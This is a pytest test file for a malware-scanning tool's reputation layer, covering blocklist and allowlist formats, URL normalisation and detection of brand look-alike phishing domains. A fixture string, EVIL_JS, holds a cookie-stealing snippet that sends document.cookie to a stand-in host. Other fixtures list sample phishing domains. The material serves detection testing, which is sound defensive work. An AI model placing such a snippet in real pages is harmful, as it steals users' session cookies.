"""The reputation layer: list files in the formats people have, allow/block semantics, the
API-managed entries, and brand look-alike detection that never flags the brand itself."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from malwaresnipper.engine.capture import Capture, Script
from malwaresnipper.engine.config import EngineConfig, Reputation
from malwaresnipper.engine.errors import ConfigError
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.layers import reputation
from malwaresnipper.engine.layers.reputation import ReputationLayer, damerau_levenshtein, fold, update_lists
from malwaresnipper.engine.lists import bundled_brands, load_list_file, normalize_url, parse_entry, url_key
from malwaresnipper.engine.results import LayerResult, Severity
from malwaresnipper.engine.verdict import ThreatLevel, build_verdict

EVIL_JS = "var x = document.cookie; new Image().src = 'https://collect.example/?' + x;"
EVIL_SHA = hashlib.sha256(EVIL_JS.encode()).hexdigest()

URLHAUS_CSV = """################################################################
# abuse.ch URLhaus Database Dump (CSV)                         #
################################################################
#
# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter
"3141592","2024-01-02 10:00:00","http://malware-host.example/bins/x86","online","2024-01-02 10:00:00","malware_download","elf,mirai","https://urlhaus.abuse.ch/url/3141592/","someone"
"3141593","2024-01-02 10:05:00","https://Phish.Example:443/login/index.php#top","offline","","phishing","","https://urlhaus.abuse.ch/url/3141593/","someone"
"""


@pytest.fixture(autouse=True)
def _reset_dynamic_lists() -> Iterator[None]:
    update_lists([], [])
    yield
    update_lists([], [])


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def layer_with(tmp_path: Path, allow: list[str] = (), block: list[str] = ()) -> ReputationLayer:  # type: ignore[assignment]
    config = EngineConfig(base_dir=str(tmp_path),
                          reputation=Reputation(allowlist_files=list(allow), blocklist_files=list(block)))
    return ReputationLayer(config)


def analyze(layer: ReputationLayer, url: str, **kwargs: object) -> LayerResult:
    capture = Capture.build(url, **kwargs)  # type: ignore[arg-type]
    return layer.analyze(capture, Features(capture))


def ids(result: LayerResult) -> set[str]:
    return {i.id for i in result.indicators}


DEFAULT = ReputationLayer(EngineConfig())

# -- list formats ------------------------------------------------------------------------------


def test_plain_domain_list_with_comments(tmp_path: Path) -> None:
    path = write(tmp_path, "block.txt", "# my blocklist\n\nevil.example   # trailing comment\n*.Bad.Example.\n"
                 "||adblock.example^\n")
    entries = load_list_file(path)
    assert set(entries.domains) == {"evil.example", "bad.example", "adblock.example"}
    assert entries.domains["evil.example"].where == f"{path}:3"
    assert entries.domains["evil.example"].classification == "malware"
    assert entries.match_domain("a.b.evil.example") == ("evil.example", entries.domains["evil.example"])
    assert entries.match_domain("notevil.example") is None
    assert entries.match_domain("example") is None


def test_hosts_file(tmp_path: Path) -> None:
    path = write(tmp_path, "hosts", "127.0.0.1 localhost\n::1 localhost ip6-localhost\n"
                 "0.0.0.0 evil.example\n127.0.0.1\tads.example tracker.example # ads\n0.0.0.0 0.0.0.0\n")
    entries = load_list_file(path)
    assert set(entries.domains) == {"evil.example", "ads.example", "tracker.example"}


def test_urlhaus_csv(tmp_path: Path) -> None:
    entries = load_list_file(write(tmp_path, "urlhaus.csv", URLHAUS_CSV))
    assert set(entries.urls) == {"//malware-host.example/bins/x86", "//phish.example/login/index.php"}
    assert entries.urls["//malware-host.example/bins/x86"].classification == "malware"
    assert entries.urls["//phish.example/login/index.php"].classification == "phishing"
    assert entries.domains == {}


def test_top_list_csv_and_uncommented_header(tmp_path: Path) -> None:
    tranco = load_list_file(write(tmp_path, "top.csv", "1,google.com\n2,example.org\n"))
    assert set(tranco.domains) == {"google.com", "example.org"}
    named = load_list_file(write(tmp_path, "named.csv", "rank,domain,note\n1,Example.net,ok\n"))
    assert set(named.domains) == {"example.net"}


def test_sha256_list_and_classification_directive(tmp_path: Path) -> None:
    path = write(tmp_path, "hashes.txt", f"# classification: skimmer\n{EVIL_SHA.upper()}\n"
                 "# classification: phishing\nhttp://phish.example/a\n")
    entries = load_list_file(path)
    assert entries.sha256[EVIL_SHA].classification == "skimmer"
    assert entries.urls["//phish.example/a"].classification == "phishing"


@pytest.mark.parametrize(
    ("name", "text", "line", "message"),
    [
        ("plain.txt", "# ok\nevil.example\nnot a domain at all\n", 3, "one domain"),
        ("bad-name.txt", "good.example\nbad_host$name\n", 2, "not a domain"),
        ("hosts", "0.0.0.0 evil.example\n0.0.0.0 bad!name\n", 2, "not a host name"),
        ("feed.csv", '# id,dateadded,url\n"1","2024","http://ok.example/"\n"2","2024"\n', 3, "columns"),
        ("nourl.csv", '"1","2024-01-01","online"\n', 1, "no URL or domain column"),
        ("badurl.csv", '# id,url\n"1","http://"\n', 2, "not a valid URL"),
    ],
)
def test_bad_lines_name_file_and_line(tmp_path: Path, name: str, text: str, line: int, message: str) -> None:
    path = write(tmp_path, name, text)
    with pytest.raises(ConfigError) as err:
        load_list_file(path)
    assert f"{path}:{line}:" in str(err.value)
    assert message in str(err.value)


def test_unreadable_files_name_the_file(tmp_path: Path) -> None:
    missing = tmp_path / "missing.txt"
    with pytest.raises(ConfigError, match="missing.txt: list file not found"):
        load_list_file(missing)
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"ok.example\n\xff\xfe\x00garbage\n")
    with pytest.raises(ConfigError, match=r"binary.txt:2: not UTF-8"):
        load_list_file(binary)


def test_layer_construction_reports_bad_list_with_file_and_line(tmp_path: Path) -> None:
    write(tmp_path, "block.txt", "evil.example\nthis line is wrong\n")
    with pytest.raises(ConfigError, match=r"block.txt:2:"):
        layer_with(tmp_path, block=["block.txt"])


def test_url_normalisation_matches_the_corpus_rules() -> None:
    assert normalize_url("HTTP://Example.COM:80") == "http://example.com/"
    assert normalize_url("https://example.com:443/a?b=1&amp;c=2#frag") == "https://example.com/a?b=1&c=2"
    assert normalize_url("example.com/path") == "http://example.com/path"
    assert normalize_url("http://example.com:8080/") == "http://example.com:8080/"
    assert url_key("https://example.com/x") == url_key("http://EXAMPLE.com:80/x#y")


def test_parse_entry_detects_the_kind() -> None:
    assert parse_entry(EVIL_SHA) == ("sha256", EVIL_SHA)
    assert parse_entry("Evil.Example") == ("domain", "evil.example")
    assert parse_entry("http://evil.example/a") == ("url", "//evil.example/a")
    assert parse_entry("пример.рф") == ("domain", "xn--e1afmkfd.xn--p1ai")
    for bad in ("", "not a domain", "http://", "a..b"):
        with pytest.raises(ValueError):
            parse_entry(bad)


# -- blocklists and allowlists in the layer ----------------------------------------------------


@pytest.fixture()
def lists_layer(tmp_path: Path) -> ReputationLayer:
    write(tmp_path, "block.txt", f"# classification: phishing\nevil.example\n{EVIL_SHA}\n")
    write(tmp_path, "urlhaus.csv", URLHAUS_CSV)
    write(tmp_path, "allow.hosts", "0.0.0.0 intranet.example\n")
    write(tmp_path, "allow.txt", "https://shared.example/safe/page\n")
    return layer_with(tmp_path, allow=["allow.hosts", "allow.txt"], block=["block.txt", "urlhaus.csv"])


def test_blocklisted_domain_and_subdomains_are_critical(lists_layer: ReputationLayer) -> None:
    for url in ("https://evil.example/", "https://login.evil.example/x?y=1"):
        result = analyze(lists_layer, url)
        assert ids(result) == {"reputation.blocklisted_domain"}
        ind = result.indicators[0]
        assert ind.severity is Severity.CRITICAL and ind.classification == "phishing"
        assert "block.txt:2" in ind.title
        assert result.score == 100.0 and result.details["allowlisted"] is False
    assert analyze(lists_layer, "https://notevil.example/").score == 0.0


def test_blocklisted_url_matches_after_normalisation(lists_layer: ReputationLayer) -> None:
    result = analyze(lists_layer, "https://MALWARE-HOST.example:443/bins/x86#frag")
    assert ids(result) == {"reputation.blocklisted_url"}
    assert result.indicators[0].classification == "malware"
    phish = analyze(lists_layer, "http://phish.example/login/index.php")
    assert phish.indicators[0].classification == "phishing"
    assert analyze(lists_layer, "http://malware-host.example/bins/arm7").score == 0.0


def test_blocklisted_script_by_hash_and_by_source(lists_layer: ReputationLayer) -> None:
    by_hash = analyze(lists_layer, "https://shop.example/", scripts=[EVIL_JS])
    assert ids(by_hash) == {"reputation.blocklisted_script"}
    assert by_hash.indicators[0].evidence[0].snippet == EVIL_SHA
    by_src = analyze(lists_layer, "https://shop.example/",
                     scripts=[Script(url="https://cdn.evil.example/s.js", inline=False)])
    assert ids(by_src) == {"reputation.blocklisted_script"}
    assert by_src.indicators[0].evidence[0].location == "script https://cdn.evil.example/s.js"
    assert analyze(lists_layer, "https://shop.example/", scripts=["var ok = 1;"]).score == 0.0


def test_allowlist_marks_the_result(lists_layer: ReputationLayer) -> None:
    result = analyze(lists_layer, "https://wiki.intranet.example/login")
    assert result.details["allowlisted"] is True and result.score == 0.0
    (ind,) = result.indicators
    assert ind.id == "reputation.allowlisted_domain" and ind.severity is Severity.INFO
    url_allowed = analyze(lists_layer, "http://shared.example/safe/page")
    assert url_allowed.indicators[0].id == "reputation.allowlisted_url"
    assert not analyze(lists_layer, "https://shared.example/other").details["allowlisted"]


def test_block_beats_allow(lists_layer: ReputationLayer) -> None:
    """A known-bad script on an allowlisted site means the site is compromised."""
    result = analyze(lists_layer, "https://intranet.example/", scripts=[EVIL_JS])
    assert result.details["allowlisted"] is False
    assert ids(result) == {"reputation.blocklisted_script"}


def verdict_for(result: LayerResult) -> ThreatLevel:
    verdict = build_verdict(url="https://x.example/", results=[result], extra_indicators=[],
                            config=EngineConfig(), duration_ms=1.0, engine_version="test",
                            model_versions={}, source="proxy", scripts=(), scanned_chars=0, truncated=False)
    return verdict.threat_level


def test_verdict_turns_block_into_malicious_and_allow_into_benign(lists_layer: ReputationLayer) -> None:
    assert verdict_for(analyze(lists_layer, "https://evil.example/")) is ThreatLevel.MALICIOUS
    assert verdict_for(analyze(lists_layer, "https://intranet.example/")) is ThreatLevel.BENIGN


def test_relative_list_paths_resolve_against_the_config_folder(tmp_path: Path) -> None:
    (tmp_path / "lists").mkdir()
    write(tmp_path / "lists", "block.txt", "evil.example\n")
    layer = layer_with(tmp_path, block=["lists/block.txt"])
    assert analyze(layer, "http://evil.example/").score == 100.0


# -- API-managed entries ------------------------------------------------------------------------


def test_update_lists_replaces_dynamic_entries() -> None:
    layer = ReputationLayer(EngineConfig())
    assert analyze(layer, "https://dyn-evil.example/").score == 0.0
    counts = update_lists(allow=["friendly.example"], block=["dyn-evil.example", "http://other.example/x", EVIL_SHA])
    assert counts == {"allow": 1, "block": 3}
    assert ids(analyze(layer, "https://a.dyn-evil.example/")) == {"reputation.blocklisted_domain"}
    assert ids(analyze(layer, "https://other.example/x")) == {"reputation.blocklisted_url"}
    assert ids(analyze(layer, "https://ok.example/", scripts=[EVIL_JS])) == {"reputation.blocklisted_script"}
    assert analyze(layer, "https://friendly.example/").details["allowlisted"] is True
    assert "API blocklist" in analyze(layer, "https://dyn-evil.example/").indicators[0].title
    update_lists(allow=[], block=["other-evil.example"])  # replaces, not adds
    assert analyze(layer, "https://dyn-evil.example/").score == 0.0
    assert not analyze(layer, "https://friendly.example/").details["allowlisted"]


def test_update_lists_rejects_bad_entries_and_keeps_the_old_ones() -> None:
    layer = ReputationLayer(EngineConfig())
    update_lists(allow=[], block=["dyn-evil.example"])
    with pytest.raises(ValueError, match="entry #2"):
        update_lists(allow=[], block=["fine.example", "not a domain"])
    with pytest.raises(ValueError, match="must be a string"):
        update_lists(allow=[42], block=[])  # type: ignore[list-item]
    assert analyze(layer, "https://dyn-evil.example/").score == 100.0
    assert reputation.dynamic_lists()[1].match_domain("dyn-evil.example")


# -- look-alikes --------------------------------------------------------------------------------


def test_the_brands_own_domains_are_never_flagged() -> None:
    brands = bundled_brands()
    assert len(brands) >= 150
    for brand in brands:
        for domain in brand.domains:
            for host in (domain, f"www.{domain}", f"login.secure.{domain}"):
                result = analyze(DEFAULT, f"https://{host}/signin/verify-account")
                assert result.score == 0.0, (host, [(i.id, i.title) for i in result.indicators])


@pytest.mark.parametrize(
    ("url", "indicator", "brand"),
    [
        ("https://paypa1.com/", "reputation.lookalike_homoglyph", "paypal.com"),
        ("https://xn--pypal-4ve.com/", "reputation.lookalike_homoglyph", "paypal.com"),  # Cyrillic а
        ("https://rnicrosoft.com/", "reputation.lookalike_homoglyph", "microsoft.com"),
        ("https://faceb00k-security.com/", "reputation.lookalike_homoglyph", "facebook.com"),
        ("https://paypall.com/", "reputation.lookalike_typo", "paypal.com"),
        ("https://microsfot.com/", "reputation.lookalike_typo", "microsoft.com"),  # transposition
        ("https://bankofamerca.com/", "reputation.lookalike_typo", "bankofamerica.com"),
        ("https://steamcomunnity.com/", "reputation.lookalike_typo", "steamcommunity.com"),
        ("https://paypal-login.com/", "reputation.brand_in_domain", "paypal.com"),
        ("https://securepaypal.net/", "reputation.brand_in_domain", "paypal.com"),
        ("https://paypal.xyz/", "reputation.brand_other_tld", "paypal.com"),
        ("https://secure-paypal.com.evil.net/", "reputation.brand_domain_in_subdomain", "paypal.com"),
        ("https://appleid.apple.com-isupport.info/", "reputation.brand_domain_in_subdomain", "apple.com"),
        ("https://www.amazon.co.uk.deals.example/", "reputation.brand_domain_in_subdomain", "amazon.co.uk"),
        ("https://netflix.billing-help.example/", "reputation.brand_in_subdomain", "netflix.com"),
    ],
)
def test_lookalikes_are_flagged(url: str, indicator: str, brand: str) -> None:
    result = analyze(DEFAULT, url)
    found = [i for i in result.indicators if i.id == indicator]
    assert found, (indicator, [(i.id, i.title) for i in result.indicators])
    assert brand in found[0].title
    assert found[0].classification == "phishing" and found[0].evidence[0].location == "url"
    assert result.score >= 25


def test_lookalike_with_sign_in_words_scores_higher() -> None:
    plain = analyze(DEFAULT, "https://paypal-service.com/")
    with_words = analyze(DEFAULT, "https://paypal-service.com/signin/verify")
    assert with_words.score > plain.score
    assert with_words.indicators[0].severity is Severity.HIGH


@pytest.mark.parametrize(
    "url",
    [
        "https://live-scores.example/",  # common-word brand (live.com): no embedding check
        "https://www.officedepot.com/",
        "https://pineapple.example/",
        "https://www.cbsinteractive.com/",
        "https://finance.example/",
        "https://telegraf.com.ua/news",
        "https://www.google.ca/",  # brands own country domains
        "https://amazon.cn/",
        "https://target.xyz/",  # common word: many owners
        "https://ups.org/",  # too short to be sure
        "http://paypal/",  # an intranet name without a suffix
        "https://example.com/",
        "https://apply.example/",
        "http://93.184.216.34/",
        "data:text/html,hi",
    ],
)
def test_ordinary_names_are_not_lookalikes(url: str) -> None:
    result = analyze(DEFAULT, url)
    assert result.score == 0.0, [(i.id, i.title) for i in result.indicators]


def test_protected_brands_file_adds_brands(tmp_path: Path) -> None:
    write(tmp_path, "brands.txt", "# ours\nexamplebank.example examplebank-cdn.example\n")
    config = EngineConfig(base_dir=str(tmp_path),
                          reputation=Reputation(protected_brands_file="brands.txt", use_bundled_brands=False))
    layer = ReputationLayer(config)
    assert "reputation.lookalike_typo" in ids(analyze(layer, "https://examp1ebank.example/")) | ids(
        analyze(layer, "https://exampelbank.example/"))
    assert analyze(layer, "https://examplebank-cdn.example/x").score == 0.0
    assert analyze(layer, "https://paypa1.com/").score == 0.0  # bundled brands switched off
    write(tmp_path, "bad-brands.txt", "good.example\nbad brand!\n")
    with pytest.raises(ConfigError, match=r"bad-brands.txt:2:"):
        ReputationLayer(EngineConfig(base_dir=str(tmp_path),
                                     reputation=Reputation(protected_brands_file="bad-brands.txt")))


def test_folding_and_distance_helpers() -> None:
    assert fold("pаypa1") == fold("paypal")  # Cyrillic а, digit 1
    assert fold("rnicrosoft") == fold("microsoft")
    assert fold("vvellsfargo") == fold("wellsfargo")
    assert damerau_levenshtein("paypal", "paypal") == 0
    assert damerau_levenshtein("paypal", "paypla") == 1  # adjacent swap is one edit
    assert damerau_levenshtein("paypal", "pyapl") == 2
    assert damerau_levenshtein("", "abc") == 3


def test_layer_survives_pickling_for_worker_processes(tmp_path: Path) -> None:
    import pickle

    write(tmp_path, "block.txt", "evil.example\n")
    layer = layer_with(tmp_path, block=["block.txt"])
    analyze(layer, "https://paypa1.com/")  # fill the look-alike cache first
    copy = pickle.loads(pickle.dumps(layer))
    assert analyze(copy, "https://evil.example/").score == 100.0
    assert "reputation.lookalike_homoglyph" in ids(analyze(copy, "https://paypa1.com/"))
